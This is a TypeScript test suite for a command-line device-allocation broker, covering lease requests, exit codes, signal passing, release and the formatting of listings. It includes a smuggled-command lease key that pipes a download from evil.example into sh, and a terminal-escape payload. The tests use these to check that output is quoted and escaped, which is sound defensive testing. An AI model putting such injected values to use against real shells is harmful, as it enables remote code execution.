import assert from 'node:assert/strict';
import { ChildProcess } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { status } from '@grpc/grpc-js';
import { parse } from 'yaml';
import { Child } from '../../../src/cli/run/child.js';
import { eventually } from '../../support/eventually.js';
import { CapturedTerminal, runHere } from '../../support/captured-terminal.js';
import { FakeAllocator } from '../../support/fake-allocator.js';
import { run, start } from '../../support/program.js';
import { tempDir } from '../../support/temp-dir.js';

const LEASE = '01k9r4e7aaaaaaaaaaaaaaaaaa';
const GPU = ['--device', 'vendor.example/gpu'];

/** Whether a process is there and no zombie. */
function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

describe('run', () => {
  const root = tempDir();
  const allocator = new FakeAllocator(path.join(root, 'alloc.sock'));
  before(() => allocator.start());
  after(() => allocator.cut());
  beforeEach(() => {
    allocator.requests.length = 0;
    allocator.released.length = 0;
    allocator.attached.length = 0;
    allocator.answer = { id: LEASE, envs: new Map([['GPU_IDS', 'g0']]) };
  });
  const going = (...args: readonly string[]) => start(['run', '--root', root, ...args]);
  const ran = (...args: readonly string[]) => run(['run', '--root', root, ...args]);

  it('gives the command the variables of its devices beside its own, and the devices back when it ends', async () => {
    const { code, stdout, stderr } = await ran(...GPU, '--', 'sh', '-c', 'echo "$GPU_IDS in $HOME"');
    assert.deepEqual([code, stdout, stderr], [0, `g0 in ${process.env['HOME'] ?? ''}\n`, '']);
    assert.deepEqual(allocator.released, [{ id: LEASE, key: '' }]);
  });

  it('asks for counts and ids of several resources, an owner and a wait as it is told', async () => {
    await ran(
      ...['--device', 'v/gpu=2', '--id', 'v/gpu=a=b', '--id', 'v/tty=7', '--numa', 'single', '--wait', '90s'],
      ...['--owner', 'ci/run-7/job/1', '--', 'true'],
    );
    const pid = allocator.requests[0]?.owner?.pid;
    assert.ok(pid !== undefined && pid > 0, 'what it says of itself, for a broker that cannot see it');
    assert.deepEqual(allocator.requests, [
      {
        wants: [
          { resource: 'v/gpu', count: 2, ids: ['a=b'], numa: 'single' },
          { resource: 'v/tty', count: 1, ids: ['7'], numa: 'single' },
        ],
        owner: { bind: 'process', namespace: 'ci', name: 'run-7', part: 'job/1', pid },
        key: '',
        ttlMs: 0,
        waitMs: 90_000,
      },
    ]);
  });

  it('exits as the command does, by its code or its signal', async () => {
    assert.equal((await ran(...GPU, '--', 'sh', '-c', 'exit 42')).code, 42);
    assert.equal((await ran(...GPU, '--', 'sh', '-c', 'kill -KILL $$')).code, 137);
    assert.equal(allocator.released.length, 2);
  });

  it('takes no devices for a command that cannot run: 127 when there is none, 126 when it is not executable', async () => {
    const file = path.join(root, 'not-executable');
    writeFileSync(file, '');
    const none = await ran(...GPU, '--', 'no-such-command');
    assert.equal(none.code, 127);
    assert.match(none.stderr, /there is no command no-such-command/);
    assert.equal((await ran(...GPU, '--', file)).code, 126);
    assert.equal(allocator.requests.length, 0);
  });

  it('exits with 126 when the variables of the devices are more than a command can be given, and gives them back', async () => {
    allocator.answer = { id: LEASE, envs: new Map([['GPU_IDS', 'g'.repeat(200_000)]]) };
    const { code, stderr } = await ran(...GPU, '--', 'true');
    assert.equal(code, 126);
    assert.match(stderr, /true cannot be run: spawn E2BIG/);
    assert.deepEqual(allocator.released, [{ id: LEASE, key: '' }]);
  });

  const refusals = [
    { code: status.RESOURCE_EXHAUSTED, details: 'NO_DEVICES: none of 2 is free', exit: 75 },
    { code: status.UNAVAILABLE, details: 'LEDGER_NOT_WRITABLE: the disk is full', exit: 75 },
    { code: status.PERMISSION_DENIED, details: 'UID_NOT_ALLOWED: not for uid 7', exit: 77 },
    { code: status.INVALID_ARGUMENT, details: 'WANT_INVALID: no such thing', exit: 2 },
    { code: status.NOT_FOUND, details: 'RESOURCE_UNKNOWN: v/gpu', exit: 1 },
  ];
  for (const { code, details, exit } of refusals) {
    it(`exits with ${exit} for ${details}, and says so`, async () => {
      allocator.answer = { code, details };
      const ended = await ran(...GPU, '--', 'echo', 'ran');
      assert.deepEqual([ended.code, ended.stdout, ended.stderr], [exit, '', `plugin-broker: ${details}\n`]);
    });
  }

  it('exits with 2 when it is not told which devices, and 69 when there is no daemon', async () => {
    assert.equal((await ran('--', 'true')).code, 2);
    assert.equal((await ran('--device', 'v/gpu=0', '--', 'true')).code, 2);
    assert.equal((await ran('--device', 'v/gpu', '--id', 'v/gpu=a', '--id', 'v/gpu=b', '--', 'true')).code, 2);
    const nobody = await run(['run', '--root', path.join(root, 'none'), ...GPU, '--', 'true']);
    assert.equal(nobody.code, 69);
    assert.match(nobody.stderr, /alloc\.sock: there is no such socket/);
  });

  it('says what the plugin wants for containers and a command does not get', async () => {
    allocator.answer = {
      id: LEASE,
      warnings: ['no CDI file'],
      devices: [
        { hostPath: '/dev/ttyUSB3', containerPath: '/dev/ttyS0' },
        { hostPath: '/dev/x', containerPath: '/dev/x' },
      ],
      mounts: [{ hostPath: '/opt/acc', containerPath: '/usr/lib/acc' }],
    };
    const { stderr } = await ran(...GPU, '--', 'true');
    assert.equal(
      stderr,
      'plugin-broker: no CDI file\nplugin-broker: the plugin answers for containers; for this command /dev/ttyS0 is /dev/ttyUSB3, /usr/lib/acc is /opt/acc\n',
    );
  });

  it('passes signals on and ends when the command does', async () => {
    const running = going(
      ...GPU,
      '--',
      'sh',
      '-c',
      'trap "echo got; exit 3" TERM; echo up; while :; do sleep 0.05; done',
    );
    await eventually('the command', () => running.stdout().includes('up'));
    running.child.kill('SIGTERM');
    const { code, stdout } = await running.ended;
    assert.deepEqual([code, stdout], [3, 'up\ngot\n']);
    assert.equal(allocator.released.length, 1);
  });

  it('keeps the devices while a command runs that may not be sent signals, such as sudo', async (t) => {
    const file = path.join(tempDir(), 'pid');
    const child = new Child('sh', ['-c', `echo $$ > ${file}; exec sleep 600`], new Map());
    // A file that is empty still would name pid 0, to which a signal goes to all processes of the tests.
    const written = (): string => (existsSync(file) ? readFileSync(file, 'utf8') : '');
    const pid = await eventually('the command', () => written().endsWith('\n') && Number(written()));
    t.after(() => isAlive(pid) && process.kill(pid, 'SIGKILL'));
    let isOver = false;
    const ended = child.ended.finally(() => (isOver = true));
    const kill = t.mock.method(ChildProcess.prototype, 'kill', function (this: ChildProcess) {
      // As Node does where the system says EPERM.
      this.emit('error', Object.assign(new Error('kill EPERM'), { code: 'EPERM', syscall: 'kill' }));
      return false;
    });
    process.emit('SIGUSR2', 'SIGUSR2');
    await pause(20); // the time in which it would have been over
    assert.deepEqual([kill.mock.callCount(), isOver], [1, false]);
    process.kill(pid, 'SIGTERM');
    assert.equal(await ended, 143);
  });

  it('goes on when its terminal is closed', async () => {
    const running = going(...GPU, '--', 'sh', '-c', 'echo up; read line; exit 5');
    await eventually('the attach', () => allocator.attached.length === 1 && running.stdout().includes('up'));
    running.child.stderr.destroy();
    allocator.tell({ type: 'impaired', reason: 'device-unhealthy', message: 'g0 is not healthy any more' });
    allocator.cut();
    await allocator.start();
    await eventually('the second attach', () => allocator.attached.length === 2);
    running.child.stdin.end('on\n');
    assert.equal((await running.ended).code, 5);
  });

  it('takes its command with it when it is killed, so that nothing uses devices which others are given', async () => {
    const running = going(...GPU, '--', 'sh', '-c', 'echo $$; exec sleep 600');
    await eventually('the command', () => running.stdout().endsWith('\n'));
    const pid = Number(running.stdout());
    assert.equal(isAlive(pid), true);
    running.child.kill('SIGKILL');
    await eventually('the end of the command', () => !isAlive(pid));
    await running.ended;
  });

  it('attaches again after a restart of the broker, and tells what happens to its lease', async () => {
    const running = going(...GPU, '--', 'sleep', '600');
    await eventually('the first attach', () => allocator.attached.length === 1);
    assert.deepEqual(allocator.attached, [{ id: LEASE, key: '' }]);
    allocator.cut();
    await allocator.start();
    await eventually('the second attach', () => allocator.attached.length === 2);
    allocator.tell({ type: 'impaired', reason: 'device-unhealthy', message: 'g0 is not healthy any more' });
    await eventually('the news', () => running.stderr().includes(`lease ${LEASE}: g0 is not healthy any more`));
    running.child.kill('SIGTERM');
    assert.equal((await running.ended).code, 143);
  });

  it('goes on with its command while the broker is away', async () => {
    const running = going(...GPU, '--', 'sh', '-c', 'echo up; read line; echo "$line"');
    await eventually('the command', () => running.stdout().includes('up'));
    allocator.cut();
    running.child.stdin.end('still here\n');
    const { code, stdout } = await running.ended;
    assert.deepEqual([code, stdout], [0, 'up\nstill here\n']);
    await allocator.start();
  });
});

describe('allocate, release and allocations', () => {
  const root = tempDir();
  const allocator = new FakeAllocator(path.join(root, 'alloc.sock'));
  before(() => allocator.start());
  after(() => allocator.cut());
  const given = {
    id: LEASE,
    granted: [{ resource: 'v/gpu', ids: ['g0', 'g1'] }],
    envs: new Map([
      ['GPU_IDS', 'g0,g1'],
      ['SAYS', "it's $HOME"],
      ['not a name', 'x'],
    ]),
    cdiDevices: [`plugin-broker/lease=${LEASE}`, 'vendor.example/gpu=g0'],
  };
  const allocate = (...args: readonly string[]) =>
    run(['allocate', '--root', root, '--key', 'job', '--device', 'v/gpu=2', ...args]);

  it('give a lease as text, JSON, variables for a shell, CDI names, and options for podman', async () => {
    allocator.answer = given;
    assert.equal((await allocate()).stdout, `${LEASE} has v/gpu: g0 g1\n`);
    assert.deepEqual(
      (JSON.parse((await allocate('-o', 'json')).stdout) as { envs: object }).envs,
      Object.fromEntries(given.envs),
    );
    assert.equal((await allocate('-o', 'cdi')).stdout, `plugin-broker/lease=${LEASE}\nvendor.example/gpu=g0\n`);
    assert.equal(
      (await allocate('-o', 'args')).stdout,
      `--device=plugin-broker/lease=${LEASE} --device=vendor.example/gpu=g0\n`,
    );
    assert.equal(
      (await allocate('-o', 'env')).stdout,
      "export GPU_IDS=g0,g1\nexport SAYS='it'\\''s $HOME'\n# not a name is no name that a shell takes\n",
    );
  });

  it('steer no terminal with the values of plugins', async () => {
    allocator.answer = { ...given, envs: new Map([['TITLE', '\u001b]0;pwned\u0007\u202e']]) };
    const args = ['allocate', '--root', root, '--key', 'job', '--device', 'v/gpu', '-o', 'env'];
    assert.equal((await runHere(args)).stdout, "export TITLE='\u001b]0;pwned\u0007\u202e'\n");
    const shown = await runHere(args, new CapturedTerminal(true));
    assert.equal(shown.stdout, "export TITLE='\\u{1b}]0;pwned\\u{7}\\u{202e}'\n");
  });

  it('say why there is no CDI name when one is asked for', async () => {
    allocator.answer = { ...given, cdiDevices: [], warnings: ['the directory cannot be written'] };
    const { code, stderr } = await allocate('-o', 'args', '--ttl', '1h');
    assert.deepEqual(
      [code, stderr],
      [1, `plugin-broker: the lease ${LEASE} has no CDI name: the directory cannot be written\n`],
    );
    assert.equal(allocator.requests.at(-1)?.ttlMs, 3_600_000);
    assert.equal(allocator.requests.at(-1)?.owner?.bind, 'key');
  });

  it('release by id or key, and a second time without harm', async () => {
    const release = (...args: readonly string[]) => run(['release', '--root', root, ...args]);
    assert.equal((await release(LEASE)).stdout, 'released\n');
    const again = await release('--key', 'job');
    const none =
      'there is no such lease; nothing was done (a key is of your own leases; one of another user is named by its id)\n';
    assert.deepEqual([again.code, again.stdout], [0, none]);
    const asId = await release('job');
    assert.deepEqual(
      [asId.code, asId.stdout],
      [0, 'there is no such lease; nothing was done (a key is named with --key)\n'],
    );
    assert.deepEqual(allocator.released, [
      { id: LEASE, key: '' },
      { id: '', key: 'job' },
      { id: 'job', key: '' },
    ]);
    assert.equal((await release()).code, 2);
    assert.equal((await release(LEASE, '--key', 'job')).code, 2);
  });

  it('warn of a release that the disk has not taken, which is done all the same', async () => {
    allocator.released.length = 0;
    allocator.warnings = ['that could not be written'];
    const { code, stdout, stderr } = await runHere(['release', '--root', root, '--key', 'job']);
    allocator.warnings = [];
    assert.deepEqual([code, stdout, stderr], [0, 'released\n', 'plugin-broker: that could not be written\n']);
  });

  it('show the owner of each lease, and its end', async () => {
    const owner = { bind: 'process', namespace: 'systemd', name: 'train.service', part: 'main' };
    allocator.leases = [
      { ...given, owner, pid: 77, state: 'active', createdAt: new Date(Date.now() - 65_000).toISOString(), uid: 7 },
      { ...given, owner: { bind: 'key', namespace: 'user', name: 'me' }, key: 'job', state: 'impaired', uid: 0 },
    ];
    // The leases that a shell offers after `release`; on a machine that is too busy for it nothing.
    await eventually(
      'leases are offered',
      async () => (await run(['__names', 'lease', '--root', root])).stdout === `${LEASE}\n`,
    );
    allocator.callerUid = 0;
    const shown = await run(['allocations', '--root', root]);
    const lines = shown.stdout.split('\n').map((line) => line.trim().split(/ {2,}/));
    assert.deepEqual(lines[0], ['OWNER', 'DEVICES', 'STATE', 'SINCE', 'UNTIL', 'UID', 'LEASE']);
    assert.match(lines[1]?.[3] ?? '', /^1m\d+s$/);
    assert.deepEqual(lines[1]?.toSpliced(3, 1), [
      'systemd/train.service/main',
      'v/gpu: g0 g1',
      'active',
      'pid 77 ends',
      '7',
      LEASE,
    ]);
    assert.deepEqual(lines[2], ['user/me', 'v/gpu: g0 g1', 'impaired', '-', 'release --key job', '0', LEASE]);
    // A command to copy runs nothing that the owner of the key chose.
    const key = 'job; curl http://evil.example/x | sh #\u202e';
    const odd = { ...given, owner: { bind: 'key', namespace: 'user', name: 'me' }, key, state: 'active', uid: 7 };
    const json = JSON.parse((await run(['allocations', '--root', root, '-o', 'json'])).stdout) as { pid: number }[];
    allocator.leases = [odd];
    // A key of another user may be one of the reader's, too.
    assert.match((await run(['allocations', '--root', root])).stdout, new RegExp(` release ${LEASE} `));
    allocator.callerUid = 7;
    const shownOdd = (await run(['allocations', '--root', root])).stdout;
    allocator.callerUid = undefined;
    assert.match(shownOdd, / release --key 'job; curl http:\/\/evil\.example\/x \| sh #\\u\{202e\}' /);
    assert.deepEqual(
      json.map(({ pid }) => pid),
      [77, 0],
    );
    const pod = { owner: { bind: 'pod', namespace: 'default', name: 'p', part: 'c' }, uid: -1, state: 'active' };
    const uid = process.getuid?.() ?? -1;
    const own = { ...given, uid };
    const foreign = { ...given, id: 'theirs', uid: uid + 1, envs: new Map([['PATH', '/tmp/theirs']]) };
    allocator.leases = [own, { ...own, cdiDevices: [], envs: new Map() }, { ...pod, granted: given.granted }, foreign];
    const withPod = await run(['allocations', '--root', root]);
    assert.match(withPod.stdout, /default\/p\/c +v\/gpu: g0 g1 +active +- +its pod ends +-\n/);
    const args = await run(['allocations', '--root', root, '-o', 'args']);
    assert.equal(args.stdout, `--device=plugin-broker/lease=${LEASE} --device=vendor.example/gpu=g0\n`);
    assert.match(args.stderr, /has no CDI name/);
    const env = await run(['allocations', '--root', root, '-o', 'env']);
    assert.match(env.stdout, new RegExp(`^# ${LEASE}: .*\nexport GPU_IDS=g0,g1\n`));
    for (const { stdout, stderr } of [args, env]) {
      assert.doesNotMatch(stdout, /theirs/, 'the variables of another user are not for this shell');
      assert.match(
        stderr,
        new RegExp(`the lease theirs is uid ${String(uid + 1)}'s and left out: -o [a-z]+ is for a shell of that user`),
      );
    }
    assert.equal((await run(['allocations', '--root', root, '-o', 'name'])).stdout, `${LEASE}\ntheirs\n`);
    allocator.callerUid = uid + 1; // in another user namespace this user is that one
    const inside = await run(['allocations', '--root', root, '-o', 'env']);
    assert.match(inside.stdout, /^# theirs: .*\nexport PATH=\/tmp\/theirs\n$/);
    assert.match(inside.stderr, new RegExp(`the lease ${LEASE} is uid ${String(uid)}'s and left out`));
    allocator.callerUid = undefined;
    const globbed = async (glob: string) => (await run(['allocations', glob, '--root', root, '-o', 'name'])).stdout;
    assert.deepEqual([await globbed('v/g*'), await globbed('w/*')], [`${LEASE}\ntheirs\n`, '']);
    const wide = (await run(['allocations', '--root', root, '-o', 'wide'])).stdout.split('\n');
    assert.match(wide[0] ?? '', /^OWNER .* LEASE +KEY +CDI$/);
    assert.match(wide[1] ?? '', / plugin-broker\/lease=\S+ vendor\.example\/gpu=g0$/);
    const yaml = parse((await run(['allocations', '--root', root, '-o', 'yaml'])).stdout) as { id: string }[];
    assert.deepEqual(
      yaml.map(({ id }) => id),
      [LEASE, LEASE, '', 'theirs'],
    );
    allocator.leases = [];
    assert.equal((await run(['allocations', '--root', root])).stdout, 'no leases\n');
  });

  it('show leases again and again with --watch, one value a line with -o json, and end with 0 on Ctrl-C', async () => {
    allocator.leases = [];
    const watch = ['allocations', '--watch', '--interval', '0.1', '--root', root];
    const table = start(watch);
    const json = start([...watch, '-o', 'json']);
    await eventually('there is none', () => table.stdout().includes('no leases') && json.stdout().startsWith('[]\n'));
    allocator.leases = [given];
    await eventually('there is one', () => table.stdout().includes(LEASE) && json.stdout().includes(LEASE));
    for (const watching of [table, json]) {
      watching.child.kill('SIGINT');
      const { code, stderr } = await watching.ended;
      assert.deepEqual([code, stderr], [0, '']);
    }
    const last = json.stdout().trimEnd().split('\n').at(-1) ?? '';
    assert.deepEqual(
      (JSON.parse(last) as { id: string }[]).map(({ id }) => id),
      [LEASE],
    );
  });
});
